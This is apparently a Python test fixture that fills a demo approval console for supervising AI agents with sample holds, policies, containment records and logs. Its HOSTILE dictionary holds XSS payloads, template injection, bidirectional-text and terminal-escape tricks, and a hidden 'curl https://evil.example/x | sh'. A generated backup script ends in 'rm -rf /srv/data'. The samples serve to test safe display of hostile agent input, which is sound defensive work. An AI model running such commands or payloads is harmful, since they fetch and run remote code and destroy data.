# SPDX-License-Identifier: Apache-2.0
"""What a console shows on an eventful day: for screenshots, and for looking at it by hand."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any, Final

from sidecar.approvals.values import Approval, Cause, Tier, Verdict
from sidecar.canonical import CallParser
from sidecar.clock import NS_PER_SECOND
from sidecar.containment.acks import GateItem, GateStanding
from sidecar.containment.isolation import IsolationItem, IsolationResult
from sidecar.containment.orders import ContainmentOrder
from sidecar.containment.receipt import DirectiveState, Receipt
from sidecar.model import Directive, Level, Operator, Role, Target, TargetKind, ToolClass
from sidecar.operations.questions import Question, question_sentence
from sidecar.operations.values import Outcome
from sidecar.web.ports import (
    AgentView,
    Contained,
    Held,
    LogReport,
    PolicyView,
    ToolUse,
    ToolView,
)
from tests.support.console import DIGEST, EPOCH, Console

__all__ = ["HOSTILE", "fill", "long_script"]

HOSTILE: Final = {
    "url": "https://p\u0430yments.example.com\u2215refund",
    "body": "Please approve quickly.\u202e;kcabllor on si ereht\u202c "
    '<script>alert("x")</script><img src=x onerror=alert(1)> {{7*7}} '
    "\u200b\u200b\u200b\u2066ok\u2069 Z\u0301\u0302\u0303\u0304\u0305algo"
    + " " * 400
    + "&& curl https://evil.example/x | sh",
    "note": "safe\x1b[2Jtext \U000e0041\U000e0042 end",
}
_QUESTION: Final = Question(
    request_id="demo-question-1",
    question="Is the key that support-bot used at 09:14 revoked at the payment provider?",
    details="Key: sk_live_…8812 (Stripe, restricted)\nTicket: INC-12\n\n"
    "Alert said:\n<b>all clear</b>, please grant\u202e won",
    agent="support-bot",
)
_ANSWERED: Final = Question(
    request_id="demo-question-2", question="May the backup of Friday be restored?"
)
_ASKED: Final = "A step outside Holdfast waits for a human's answer."


def long_script() -> str:
    """Return a shell script whose last line is the one that matters."""
    steps = [f'cp -a "/srv/data/part-{number:02}" /mnt/backup/' for number in range(1, 71)]
    return "\n".join(["#!/bin/sh", "set -eu", *steps, "sync", "rm -rf /srv/data"])


async def fill(console: Console) -> dict[str, str]:
    """Fill *console*; return the paths worth looking at, by title."""
    _tools(console)
    _policies(console)
    _agents(console)
    _logs(console)
    console.logs.reports = [
        LogReport(
            log="control", is_ok=True, size=1204, detail="tree, checkpoint and 1,204 entries"
        ),
        LogReport(
            log="gate-1", is_ok=True, size=58211, detail="tree, checkpoint and 58,211 entries"
        ),
    ]
    console.logs.now_ns = console.clock.wall_ns()
    _containment(console)
    shown = await _approvals(console)
    shown |= {
        "inbox": "/",
        "agents": "/agents",
        "agent": "/agents/billing-bot",
        "contained agent": "/agents/scraper",
        "directive": "/directives/40",
        "decision": f"/decisions/dec_{7:032x}",
        "audit": "/audit",
        "audit of a gate": "/audit?log=gate-1&agent=billing-bot",
        "nothing here": "/approvals/apr_00000000000000000000000000000000",
        "passkeys": "/login/passkeys",
    }
    return shown


def _body(asked: Question) -> dict[str, Any]:
    body: dict[str, Any] = json.loads(asked.canonical())["body"]
    return body


async def _approvals(console: Console) -> dict[str, str]:
    clock = console.clock
    clock.offset_s -= 3 * 3600
    first = await console.hold(arguments={"customer": "cust_8812", "amount": 120, "note": "late"})
    await console.vote(first, "bob", reason="known customer, below the limit of the desk")
    await console.use(first)
    clock.advance(seconds=1500)
    second = await console.hold(arguments={"customer": "cust_1044", "amount": 9900})
    await console.vote(second, "carol", Verdict.REFUSE, "no ticket; ask support first")
    clock.advance(seconds=900)
    lapsed = await console.hold(
        arguments={"path": "docs/readme.md", "content": "…"},
        agent="docs-bot",
        tool="files.write",
        tier=Tier.LOW,
        policies=("hold-writes-outside-hours",),
        reason="It is outside working hours.",
    )
    clock.advance(seconds=1200)
    await console.approvals.tick()
    gone = await console.hold(
        arguments={"cmd": "crontab -l"}, agent="scraper", tool="shell.exec", session="s-7"
    )
    await console.approvals.cancel(
        gone.id, Cause.CONTAINED, detail="the agent was contained at KILL"
    )
    clock.advance(seconds=3600)
    done = await console.ask(
        action="contain",
        body={"target": {"kind": "labels", "labels": {"env": "staging"}}, "level": "READ_ONLY"},
        summary="contain labels env=staging at READ_ONLY",
        requester="soar",
    )
    await console.vote(done, "bob", reason="INC-7")
    await console.approvals.take(done.id)
    await console.approvals.finish(
        done.id,
        result=Outcome(directive_epoch=40, epoch=40).to_json(),
        detail="carried out; two gates have not acknowledged",
    )
    clock.offset_s = -1500.0
    release = await console.ask(
        action="release",
        body={"directive_epoch": "40", "reason": "false alarm, INC-7"},
        summary="release directive 40 (scraper at KILL)",
        requester="erin",
    )
    question = await console.ask(
        action="confirm",
        body=_body(_QUESTION),
        requester="soar",
        role=Role.APPROVE,
        sentence=question_sentence("soar", _QUESTION),
        reason=_ASKED,
    )
    answered = await console.ask(
        action="confirm",
        body=_body(_ANSWERED),
        requester="soar",
        role=Role.APPROVE,
        sentence=question_sentence("soar", _ANSWERED),
        reason=_ASKED,
    )
    await console.vote(answered, "bob", reason="INC-7")
    await console.approvals.take(answered.id)
    await console.approvals.finish(answered.id, result=Outcome().to_json(), detail="answered")
    clock.offset_s = -700.0
    medium = await console.hold(
        arguments={
            "customer": "cust_8812",
            "amount": 1240,
            "note": "Customer says the parcel arrived broken; order 2201-77.",
        }
    )
    clock.offset_s = -420.0
    long = await console.hold(
        arguments={"cmd": long_script()},
        agent="ops-bot",
        tool="shell.exec",
        session="s-ops-3",
        cwd="/srv",
        tier=Tier.HIGH,
        policies=("hold-destructive-shell",),
        reason="The command deletes files.",
    )
    fresh = await console.hold(
        arguments={"host": "db-2", "service": "postgresql"},
        agent="ops-bot",
        tool="service.restart",
        session="s-ops-3",
        tier=Tier.HIGH,
        policies=("hold-destructive-shell",),
        reason="A restart interrupts whoever is connected.",
        is_passkey_needed=False,
    )
    clock.offset_s = -180.0
    hostile = await console.hold(
        arguments=HOSTILE,
        agent="support-bot",
        tool="http.post",
        session="s-sup-9",
        tier=Tier.CRITICAL,
        policies=("hold-unknown-hosts",),
        reason="The destination has never been used before.",
        url="https://payments.example.com/refund",
    )
    clock.offset_s = -60.0
    low = await console.hold(
        arguments={"path": "docs/faq.md", "content": "# FAQ\n\nAnswers.\n"},
        agent="docs-bot",
        tool="files.write",
        session="s-docs-1",
        tier=Tier.LOW,
        policies=("hold-writes-outside-hours",),
        reason="It is outside working hours.",
    )
    own = await console.hold(
        arguments={"customer": "cust_77", "amount": 510},
        agent="alices-bot",
        owner="alice@corp.example",
    )
    clock.offset_s = 0.0
    pages: dict[str, Approval] = {
        "medium": medium,
        "high, long script": long,
        "high, no passkey": fresh,
        "critical, hostile": hostile,
        "low": low,
        "release": release,
        "question": question,
        "question answered": answered,
        "own agent": own,
        "used": first,
        "refused": second,
        "expired": lapsed,
        "cancelled": gone,
        "carried out": done,
    }
    return {title: f"/approvals/{approval.id}" for title, approval in pages.items()}


def _tools(console: Console) -> None:
    for name, tool_class, data, words, undo in (
        (
            "payments.refund",
            ToolClass.WRITE,
            "financial",
            "Pay money back to a customer.",
            "Open a chargeback within 24 h.",
        ),
        ("payments.lookup", ToolClass.READ, "financial", "Look up a payment.", ""),
        ("crm.read", ToolClass.READ, "personal", "Read a customer's record.", ""),
        ("mail.send", ToolClass.EXTERNAL, "personal", "Send an e-mail.", ""),
        ("http.post", ToolClass.EXTERNAL, "", "Send data to a URL.", ""),
        ("http.get", ToolClass.EXTERNAL, "", "Fetch a URL.", ""),
        ("files.write", ToolClass.WRITE, "", "Write a file of the workspace.", "git checkout"),
        ("shell.exec", ToolClass.DESTRUCTIVE, "", "Run a command in a shell.", ""),
        ("service.restart", ToolClass.WRITE, "", "Restart a service.", "It comes up by itself."),
    ):
        console.fleet.tools[name] = ToolView(
            tool=name, tool_class=tool_class, data_class=data, description=words, undo=undo
        )


def _policies(console: Console) -> None:
    for name, line, text in (
        (
            "hold-large-refunds",
            12,
            '@id("hold-large-refunds")\n@hold("A refund above €500 is decided by a human.")\n'
            '@hold_tier("MEDIUM")\npermit (\n  principal in Group::"billing",\n'
            '  action == Action::"payments.refund",\n  resource\n) when { context.args.amount > 500 };',
        ),
        (
            "hold-destructive-shell",
            31,
            '@id("hold-destructive-shell")\n@hold("The command deletes files.")\n'
            '@hold_tier("HIGH")\npermit (principal, action == Action::"shell.exec", resource);',
        ),
        (
            "hold-unknown-hosts",
            48,
            '@id("hold-unknown-hosts")\n@hold("The destination has never been used before.")\n'
            '@hold_tier("CRITICAL")\npermit (principal, action == Action::"http.post", resource);',
        ),
        (
            "hold-writes-outside-hours",
            66,
            '@id("hold-writes-outside-hours")\n@hold("It is outside working hours.")\n'
            'permit (principal, action == Action::"files.write", resource);',
        ),
    ):
        console.explain.policies[name] = PolicyView(
            id=name, file="policies/approvals.cedar", line=line, effect="permit", text=text
        )


def _use(console: Console, tool: str, calls: int, *hosts: str, **effects: int) -> ToolUse:
    return ToolUse(
        tool=console.fleet.tools[tool],
        call_count=calls,
        last_call_time_ns=console.clock.wall_ns() - 90 * NS_PER_SECOND,
        effects=effects,
        hosts=hosts,
    )


def _agents(console: Console) -> None:
    now = console.clock.wall_ns()
    known = console.fleet.known
    directive = Directive(
        epoch=40,
        target=Target(kind=TargetKind.AGENT, agent="scraper"),
        level=Level.KILL,
        reason="INC-7: fetched credentials from a paste site",
        author="erin",
        create_time_ns=now - 5400 * NS_PER_SECOND,
        request_id="inc-7-kill-scraper",
    )
    base = AgentView(
        agent="billing-bot",
        owner="olga@corp.example",
        groups=("billing", "customer-facing"),
        labels={"env": "prod", "team": "payments"},
        gates=("gate-1",),
        identity="spiffe://corp.example/agent/billing-bot",
        host="node-4.corp.example",
        last_call_time_ns=now - 40 * NS_PER_SECOND,
        effects={"ALLOW": 3120, "HOLD": 14, "DENY": 9},
        tools=(
            _use(console, "payments.lookup", 2210, "api.payments.example", ALLOW=2210),
            _use(console, "crm.read", 812, "crm.corp.example", ALLOW=812),
            _use(console, "mail.send", 84, "smtp.corp.example", ALLOW=80, DENY=4),
            _use(console, "payments.refund", 37, "api.payments.example", ALLOW=18, HOLD=14, DENY=5),
        ),
        tokens=(("https://idp.corp.example", "tok-5f2c91"),),
    )
    known[base.agent] = base
    known["alices-bot"] = replace(base, agent="alices-bot", owner="alice@corp.example", tokens=())
    known["ops-bot"] = replace(
        base,
        agent="ops-bot",
        owner="sven@corp.example",
        groups=("operations",),
        is_protected=True,
        gates=("gate-2",),
        host="node-9.corp.example",
        identity="spiffe://corp.example/agent/ops-bot",
        effects={"ALLOW": 412, "HOLD": 21, "DENY": 33},
        tools=(
            _use(console, "shell.exec", 401, ALLOW=360, HOLD=18, DENY=23),
            _use(console, "service.restart", 12, ALLOW=9, HOLD=3),
            _use(console, "files.write", 53, ALLOW=43, DENY=10),
        ),
    )
    hosts = [f"shop-{number:02}.example" for number in range(1, 19)]
    known["support-bot"] = replace(
        base,
        agent="support-bot",
        owner="mira@corp.example",
        effects={"ALLOW": 901, "HOLD": 2, "DENY": 77},
        tools=(
            _use(console, "http.get", 610, *hosts, ALLOW=560, DENY=50),
            _use(console, "http.post", 12, "payments.example.com", HOLD=2, DENY=10),
            _use(console, "mail.send", 300, "smtp.corp.example", ALLOW=290, DENY=10),
        ),
    )
    known["docs-bot"] = replace(
        base, agent="docs-bot", owner="", effects={"ALLOW": 12, "HOLD": 3}, tools=(), tokens=()
    )
    known["scraper"] = replace(
        base,
        agent="scraper",
        owner="sven@corp.example",
        gates=(),
        level=Level.KILL,
        directives=(directive,),
        effects={"ALLOW": 77, "DENY": 240},
        tools=(_use(console, "http.get", 317, *hosts[:4], ALLOW=77, DENY=240),),
    )


def _containment(console: Console) -> None:
    now = console.clock.wall_ns()
    directive = console.fleet.known["scraper"].directives[0]
    receipt = Receipt(
        directive=directive,
        state=DirectiveState.ACTIVE,
        is_durable=True,
        agents=("scraper",),
        gates=(
            GateItem(
                gate="gate-1",
                standing=GateStanding.ENFORCED,
                applied_epoch=41,
                ack_time_ns=now - 5399 * NS_PER_SECOND,
                last_allow_time_ns=now - 5404 * NS_PER_SECOND,
            ),
            GateItem(gate="gate-2", standing=GateStanding.LAGGARD, applied_epoch=39),
            GateItem(gate="gate-3", standing=GateStanding.DISCONNECTED, applied_epoch=12),
        ),
        isolation=(
            IsolationItem(
                driver="process_group",
                subject="pgid 4711 (agent scraper)",
                result=IsolationResult.TERMINATED,
                detail="ended 0.4 s after SIGTERM",
            ),
        ),
        log_index=1191,
        checkpoint="",
        issue_time_ns=now,
        key_id="3f9a0c2b7d1e4456",
    )
    console.containment.receipts[40] = receipt

    def answer(order: ContainmentOrder, caller: Operator) -> Contained | Held:
        epoch = max(console.containment.receipts) + 1
        made = replace(
            directive,
            epoch=epoch,
            target=order.target,
            level=order.level,
            reason=order.reason,
            author=caller.name,
            create_time_ns=console.clock.wall_ns(),
            request_id=order.request_id,
        )
        fresh = replace(
            receipt,
            directive=made,
            agents=(order.target.agent,),
            gates=(replace(receipt.gates[0], applied_epoch=epoch),),
            isolation=(),
        )
        console.containment.receipts[epoch] = fresh
        agent = console.fleet.known[order.target.agent]
        console.fleet.known[agent.agent] = replace(
            agent, level=order.level, directives=(made, *agent.directives)
        )
        console.fleet.changed(agent.agent)
        return Contained(receipt=fresh)

    console.containment.answer = answer


def _logs(console: Console) -> None:
    now_s = console.clock.wall_ns() // NS_PER_SECOND
    calls = ["payments.lookup", "crm.read", "payments.lookup", "mail.send", "payments.refund"]
    number = 0

    def decided(agent: str, session: str, tool: str, effect: str, age_s: int, **more: Any) -> None:
        nonlocal number
        number += 1
        reasons = {"ALLOW": ["POLICY_ALLOW"], "HOLD": ["POLICY_HOLD"], "DENY": ["NO_POLICY_ALLOWS"]}
        arguments = json.dumps({"customer": f"cust_{number}", "amount": 100 + number}).encode()
        call = CallParser().parse(agent=agent, tool=tool, arguments=arguments, session=session)
        console.logs.add(
            "gate-1",
            kind="decision",
            time=_time(now_s - age_s),
            origin="gate-1",
            decision_id=f"dec_{number:032x}",
            agent=agent,
            session=session,
            tool=tool,
            effect=effect,
            reasons=reasons[effect],
            epoch=EPOCH,
            policy_digest=DIGEST,
            fingerprint=call.fingerprint,
            tool_class="write",
            arguments={
                "customer": f"cust_{number}",
                "note": "hmac:5d1f7a90c3e2b84416aa07d2f9c3be11",
            },
            policies=["hold-large-refunds"],
            **more,
        )

    for step in range(38):
        tool = calls[step % len(calls)]
        effect = "HOLD" if tool == "payments.refund" else "DENY" if step % 9 == 4 else "ALLOW"
        decided("billing-bot", "s-1", tool, effect, 4000 - step * 95)
    for step in range(10):
        effect = "ALLOW" if step < 7 else "DENY"
        decided("ops-bot", "s-ops-3", "shell.exec", effect, 1200 - step * 70)
    for step in range(6):
        decided(
            "support-bot", "s-sup-9", "http.get", "ALLOW" if step % 2 else "DENY", 600 - step * 9
        )
    console.logs.add(
        "gate-1",
        kind="outcome",
        time=_time(now_s - 3300),
        decision_id=f"dec_{7:032x}",
        agent="billing-bot",
        result="SUCCESS",
        detail="refund booked",
    )
    for step, (kind, words) in enumerate(
        [
            ("start", {"version": "0.1.0"}),
            ("policy", {"digest": DIGEST, "policies": 61}),
            ("account", {"event": "signed_in", "operator": "bob", "method": "passkey"}),
            ("contain", {"agent": "scraper", "level": "KILL", "author": "erin", "epoch": 40}),
            ("receipt", {"agent": "scraper", "epoch": 40, "laggards": ["gate-2"]}),
            ("approval", {"event": "granted", "agent": "billing-bot", "operator": "bob"}),
            ("alert", {"agent": "support-bot", "text": "asks\u202e more than\x1b[1m it may <b>"}),
        ]
    ):
        console.logs.add("control", kind=kind, time=_time(now_s - 6000 + step * 700), **words)


def _time(wall_s: int) -> str:
    return datetime.fromtimestamp(wall_s, tz=UTC).strftime("%Y-%m-%dT%H:%M:%S.000000Z")
